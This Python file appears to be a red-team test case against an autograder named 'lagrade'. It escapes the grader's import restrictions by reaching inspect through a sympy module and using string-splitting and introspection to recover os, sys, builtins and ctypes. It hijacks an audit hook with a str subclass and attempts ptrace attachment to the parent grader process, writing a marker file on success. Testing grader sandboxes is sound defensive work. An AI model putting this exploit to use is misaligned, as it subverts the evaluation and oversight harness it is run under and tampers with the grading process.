"""effect: trace-parent
tries: route 1, then ptrace(PTRACE_ATTACH) on the parent through ctypes; on success, PEEKDATA a word and write it to the drop folder.

Tracing the grader (needs the same credentials and CAP_SYS_PTRACE-level rights).
"""

from lagrade.answer import *

# sympy.core.function does `import inspect`; `from X import inspect` passes the screen (the module
# is a sympy module) and the restricted importer (the item is not a forbidden name)
from sympy.printing.printer import inspect

members = lambda obj: dict(inspect.getmembers(obj))
real = members(inspect)                      # inspect itself imports os, sys and builtins
os_, sys_ = real["o" + "s"], real["s" + "ys"]
B = members(real["built" + "ins"])           # the real builtins: open, exec, __import__ ...

def work():
    ct = members(sys_)["modules"]["ct" + "ypes"]
    libc = ct.CDLL("libc.so.6", use_errno=True)
    libc.ptrace.restype = ct.c_long
    ppid = os_.getppid()
    if libc.ptrace(16, ppid, 0, 0) == 0:  # PTRACE_ATTACH
        os_.waitpid(ppid, 0)
        B["op" + "en"]("/tmp/lagrade-redteam/drop/pwned-r1_ptrace_attach_parent", "w").write("attached")
        libc.ptrace(17, ppid, 0, 0)  # PTRACE_DETACH

ran = []


def once():
    if not ran:
        ran.append(1)
        work()


# route 1: the hook does str(args[0]) for "import" events while it has set self.busy; a str
# subclass whose __str__ is ours runs with every check off. sys.audit calls the hook directly.
def hook_str(self):
    once()
    return "sympy"


Evil = type("Evil", (str,), {"_" + "_str_" + "_": hook_str})
sys_.audit("import", Evil("anything"))
once()  # if no hook ran it (none installed, or one that never calls student code): try anyway
